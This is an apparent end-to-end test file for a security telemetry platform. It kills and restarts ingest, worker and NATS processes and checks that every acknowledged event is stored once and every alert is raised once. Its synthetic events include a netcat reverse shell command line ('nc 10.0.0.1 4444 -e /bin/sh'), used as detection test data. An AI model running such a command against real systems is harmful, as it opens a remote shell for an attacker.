// Multi-process end to end on loopback: two `vigil ingest`, two `vigil worker` (four host partitions shared
// under leases: two each) and one `vigil api`, on a private NATS JetStream server (its own port and store, so
// restarting it disturbs no one), the ClickHouse HTTP test fixture and a fresh PostgreSQL database. Simulated
// agents stream while one worker is SIGKILLed (the other takes its partitions over once its leases expire),
// one ingest is SIGKILLed and restarted, and NATS is restarted once. Then, before the killed worker is
// restarted, every acknowledged event is stored exactly once, and nothing else is; and every acknowledged
// netcat reverse shell (one event in some batches) raised its built-in rule's alert exactly once: in the
// PostgreSQL alert store, through the API, and on the `alerts.default` stream. Restarted, the worker gets
// its share back. The API process takes its rate limits from Redis.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createClient } from 'redis';
import { SimulatedAgent } from '../../src/agent/simulator.ts';
import { jsonCodec } from '../../src/bus/codec.ts';
import { JetStreamBus } from '../../src/bus/jetstream.ts';
import { alertIdOf } from '../support/events.ts';
import { PostgresAlertStore } from '../../src/stores/alerts/postgres.ts';
import type { StoredAlert } from '../../src/stores/alerts/types.ts';
import { loadOrCreateCa } from '../../src/pki/pki.ts';
import { issueEnrollmentToken } from '../../src/stores/metadata/enrollment-tokens.ts';
import { ApiKeys } from '../../src/identity/api-key.ts';
import { openPostgresIdentityStore } from '../../src/stores/identity/postgres.ts';
import { ClickHouseHttpEngine } from '../../src/stores/events/clickhouse-http.ts';
import { PostgresMetadataStore } from '../../src/stores/metadata/postgres.ts';
import { createTempDatabase, type TempDatabase } from '../support/postgres.ts';
import { spawnClickHouseFixture } from '../fixtures/clickhouse-http-server.ts';
import { freePort, metricsHeaders, spawnRole, stopProcess, type RoleProcess } from '../fixtures/vigil-roles.ts';
import { until } from '../response/helpers.ts';

const NATS_SERVER = process.env.VIGIL_TEST_NATS_SERVER ?? '/usr/sbin/nats-server';
const REDIS_URL = 'redis://127.0.0.1:6379';
const AGENTS = 6;
const BATCH = 25;
const BATCHES = 60; // per agent, ~70 ms apart: the faults below land mid-stream
const TOTAL = AGENTS * BATCHES * BATCH;
const NETCAT_EVERY = 6; // every 6th batch of an agent carries one reverse shell
const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

let dir: string;
let db: TempDatabase;
let natsPort: number;
let nats: ChildProcess | undefined;
let clickhouse: Awaited<ReturnType<typeof spawnClickHouseFixture>>;
const procs = new Set<ChildProcess>();

function startNats(): ChildProcess {
  const child = spawn(NATS_SERVER, ['-a', '127.0.0.1', '-p', String(natsPort), '-js', '-sd', join(dir, 'nats')], { stdio: 'ignore' });
  procs.add(child);
  return child;
}

async function waitForPort(port: number): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const ok = await new Promise<boolean>((resolve) => {
      const s = createServer();
      s.once('error', () => resolve(true)); // in use: the server is listening
      s.listen(port, '127.0.0.1', () => s.close(() => resolve(false)));
    });
    if (ok) return;
    await sleep(100);
  }
  throw new Error(`nothing listening on ${port}`);
}

function env(): NodeJS.ProcessEnv {
  return {
    ...process.env, VIGIL_NATS_URL: `nats://127.0.0.1:${natsPort}`, VIGIL_BUS_MAX_BYTES: String(256 * 2 ** 20), VIGIL_CLICKHOUSE_URL: clickhouse.url,
    VIGIL_POSTGRES_URL: db.url, VIGIL_PKI_DIR: join(dir, 'pki'),
    VIGIL_REDIS_URL: REDIS_URL, VIGIL_EVENT_PARTITIONS: '4', VIGIL_ACK_WAIT_MS: '3000', VIGIL_PARTITION_LEASE_MS: '2000', VIGIL_HEALTH: '127.0.0.1:0', VIGIL_LOG_LEVEL: 'warn',
    // Not SCHED_IDLE (the default; test/scale/response.test.ts checks it): the other test files beside this
    // one in CI would starve idle workers for seconds, and their 2 s leases would lapse for that alone.
    VIGIL_WORKER_IDLE_SCHEDULING: '0',
  };
}

async function role(args: string[]): Promise<RoleProcess> {
  const p = await spawnRole(args, env());
  procs.add(p.child);
  return p;
}

async function kill(p: ChildProcess, signal: NodeJS.Signals): Promise<void> {
  await stopProcess(p, signal);
  procs.delete(p);
}

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-scale-e2e-'));
  db = await createTempDatabase('scale');
  natsPort = await freePort();
  nats = startNats();
  await waitForPort(natsPort);
  clickhouse = await spawnClickHouseFixture(join(dir, 'clickhouse'));
  mkdirSync(join(dir, 'pki'), { mode: 0o700 });
  await loadOrCreateCa(join(dir, 'pki')); // the CA all ingest processes share
});

after(async () => {
  for (const p of [...procs]) await kill(p, 'SIGKILL');
  await clickhouse?.stop();
  await db?.drop();
  rmSync(dir, { recursive: true, force: true });
});

/** An agent that re-sends a batch until it is acknowledged, as the spool does; records acknowledged ids. */
async function streamBatches(agent: SimulatedAgent, batches: number, acked: Set<string>, stats: { retries: number; shells: string[] }): Promise<void> {
  for (let b = 0; b < batches; b++) {
    const shell = b % NETCAT_EVERY === 0 ? agent.syntheticEvents(1, NETCAT) : [];
    const events = [...agent.syntheticEvents(BATCH - shell.length), ...shell];
    for (;;) {
      try {
        agent.connect();
        const ack = await Promise.race([agent.send(events), sleep(15_000).then(() => { throw new Error('ack timeout'); })]);
        assert.equal(ack.accepted, BATCH);
        for (const e of events) acked.add(e.event.id);
        stats.shells.push(...shell.map((e) => alertIdOf(NETCAT_RULE, e)));
        break;
      } catch {
        stats.retries++;
        agent.close();
        await sleep(300);
      }
    }
    await sleep(70);
  }
}

test('SIGKILLed worker (partitions taken over) and ingest, restarted NATS: every acknowledged event stored once, every alert raised once', { timeout: 170_000 }, async () => {
  const ingestPorts = [await freePort(), await freePort()];
  const ingestArgs = (i: number) => ['ingest', '--grpc', `127.0.0.1:${ingestPorts[i]}`];
  const workerArgs = ['worker', '--worker-batch', '64'];
  let ingests = await Promise.all([role(ingestArgs(0)), role(ingestArgs(1))]);
  let workers = await Promise.all([role(workerArgs), role(workerArgs)]);
  const held = async (w: RoleProcess) => Number(/^vigil_worker_partitions_held (\d+)$/m.exec(await (await fetch(`http://${w.addresses.health}/metrics`, { headers: metricsHeaders })).text())?.[1]);
  const split = (ws: RoleProcess[]) => until('two partitions per worker', async () => (await held(ws[0])) === 2 && (await held(ws[1])) === 2 || undefined, 20_000);
  await split(workers);
  const workerMetrics = await (await fetch(`http://${workers[0].addresses.health}/metrics`, { headers: metricsHeaders })).text();
  assert.equal(Number(/^vigil_worker_nice (-?\d+)$/m.exec(workerMetrics)?.[1]), 5, 'a worker process yields the CPU to ingest (VIGIL_WORKER_NICE)');
  const stat = readFileSync(`/proc/${workers[0].child.pid}/stat`, 'utf8');
  assert.equal(Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[16]), 5, 'the worker\'s main thread\'s nice value');
  const api = await role(['api', '--http', '127.0.0.1:0']);

  const metadata = new PostgresMetadataStore({ connectionString: db.url });
  const identity = await openPostgresIdentityStore({ connectionString: db.url });
  const { key: apiKey, record: keyRecord } = await new ApiKeys({ store: identity }).create({ tenantId: 'default', name: 'e2e', role: 'admin', createdBy: 'test' });
  await identity.close();
  const caPem = (await loadOrCreateCa(join(dir, 'pki'))).certPem;
  const agents = await Promise.all(Array.from({ length: AGENTS }, async (_, i) => {
    const { token } = await issueEnrollmentToken(metadata, 'default', 60_000, 1);
    return SimulatedAgent.enroll(`127.0.0.1:${ingestPorts[i % 2]}`, caPem, token, `sim-${i}`);
  }));
  await metadata.close();

  const acked = new Set<string>();
  const stats = { retries: 0, shells: [] as string[] };
  const load = Promise.all(agents.map((a) => streamBatches(a, BATCHES, acked, stats)));

  const progress = async (n: number) => {
    while (acked.size < n) await sleep(20);
    assert.ok(acked.size < TOTAL, 'the fault lands while agents are streaming');
  };
  await progress(TOTAL * 0.15);
  await kill(workers[0].child, 'SIGKILL');
  const takeover = until('the surviving worker to hold every partition', async () => (await held(workers[1])) === 4 || undefined, 30_000);
  await progress(TOTAL * 0.3);
  await kill(ingests[1].child, 'SIGKILL');
  await sleep(300);
  ingests = [ingests[0], await role(ingestArgs(1))];
  await progress(TOTAL * 0.6);
  await kill(nats!, 'SIGTERM');
  await sleep(300);
  nats = startNats();
  await load;
  await takeover;
  agents.forEach((a) => a.close());
  assert.equal(acked.size, TOTAL);
  assert.ok(stats.retries >= AGENTS / 2, `agents of the killed ingest re-sent (${stats.retries} retries)`);

  const engine = new ClickHouseHttpEngine({ url: clickhouse.url });
  try {
    let row = { n: 0, ids: 0 };
    for (let i = 0; i < 480; i++) { // up to 2 minutes: workers run at nice 5 beside other test files
      [row] = (await engine.query<{ n: string; ids: string }>(
        "SELECT count() AS n, uniqExact(event_id) AS ids FROM telemetry_events FINAL WHERE tenant_id = 'default'"))
        .map((r) => ({ n: Number(r.n), ids: Number(r.ids) }));
      if (row.ids >= acked.size) break;
      await sleep(250);
    }
    assert.deepEqual(row, { n: acked.size, ids: acked.size }, 'each acknowledged event stored once, nothing more');
    const stored = new Set((await engine.query<{ id: string }>(
      "SELECT DISTINCT event_id AS id FROM telemetry_events WHERE tenant_id = 'default'")).map((r) => r.id));
    assert.deepEqual([...acked].filter((id) => !stored.has(id)), [], 'no acknowledged event is missing');
  } finally {
    await engine.close();
  }

  const hosts = await (await fetch(`http://${api.addresses.http}/api/v1/hosts`, { headers: { authorization: `Bearer ${apiKey}` } })).json() as unknown;
  assert.equal(JSON.stringify(hosts).match(/sim-\d/g)?.length, AGENTS, 'the API process lists every agent');
  await assertAlertsOnce(stats.shells, api.addresses.http, apiKey);

  await assertRateLimitedInRedis(api.addresses.http, apiKey, `vigil:rl:user:default:apikey:${keyRecord.id}`);

  workers = [await role(workerArgs), workers[1]]; // restarted, as a supervisor would: it gets its share back
  await split(workers);
  const ready = await fetch(`http://${workers[1].addresses.health}/readyz`);
  assert.equal(ready.status, 200);

  await Promise.all([...ingests, ...workers, api].map((p) => kill(p.child, 'SIGTERM')));
  console.log(JSON.stringify({ acked: acked.size, agentRetries: stats.retries, alerts: stats.shells.length }));
});

/** The API process takes its rate limits from the shared Redis: a bucket filled there makes it answer 429. */
async function assertRateLimitedInRedis(http: string, apiKey: string, key: string): Promise<void> {
  const hosts = () => fetch(`http://${http}/api/v1/hosts`, { headers: { authorization: `Bearer ${apiKey}` } });
  const redis = createClient({ url: REDIS_URL });
  await redis.connect();
  try {
    await redis.set(key, String(Date.now() + 3_600_000), { PX: 60_000 }); // as if another API process had used it all
    const limited = await hosts();
    assert.equal(limited.status, 429, 'the bucket in Redis applies');
    assert.ok(Number(limited.headers.get('retry-after')) > 0);
    await redis.del(key);
    assert.equal((await hosts()).status, 200);
  } finally {
    await redis.del(key);
    await redis.close();
  }
}

/** Each expected alert id exactly once in the store, through the API and on the alerts stream; no other netcat alert. */
async function assertAlertsOnce(expected: string[], http: string, apiKey: string): Promise<void> {
  assert.equal(expected.length, AGENTS * Math.ceil(BATCHES / NETCAT_EVERY));
  const want = [...expected].sort();
  const store = new PostgresAlertStore({ connectionString: db.url });
  try {
    let stored: string[] = [];
    for (let i = 0; i < 200 && stored.length < want.length; i++) {
      stored = (await store.list({ tenantId: 'default', ruleId: NETCAT_RULE, limit: 1000 })).alerts.map((a) => a.id).sort();
      if (stored.length < want.length) await sleep(250);
    }
    assert.deepEqual(stored, want, 'every reverse shell raised one alert in the store, nothing more');
  } finally {
    await store.close();
  }
  const page = await (await fetch(`http://${http}/api/v1/alerts?rule=${NETCAT_RULE}&limit=1000`, { headers: { authorization: `Bearer ${apiKey}` } })).json() as { alerts: { id: string; status: string }[] };
  assert.deepEqual(page.alerts.map((a) => a.id).sort(), want, 'the API process lists the same alerts');
  assert.ok(page.alerts.every((a) => a.status === 'open'));
  assert.deepEqual(await publishedAlertIds(want.length), want, 'each alert published once on alerts.default');
}

/** Reads the alerts stream from its start with a consumer group of its own: `count` messages, then a quiet second (30 s at most). */
async function publishedAlertIds(count: number): Promise<string[]> {
  const bus = await JetStreamBus.connect<StoredAlert>({ servers: `nats://127.0.0.1:${natsPort}`, codec: jsonCodec(), consumerGroup: 'e2e-check' });
  const ids: string[] = [];
  let last = Date.now();
  const sub = bus.consume('alerts.default', async (batch) => {
    ids.push(...batch.filter((m) => m.payload.rule.id === NETCAT_RULE).map((m) => m.payload.id));
    last = Date.now();
  }, { maxBatch: 256, maxWaitMs: 50 });
  const deadline = Date.now() + 30_000;
  try {
    while ((ids.length < count || Date.now() - last < 1000) && Date.now() < deadline) await sleep(100);
  } finally {
    await sub.stop();
    await bus.close();
  }
  return ids.sort();
}
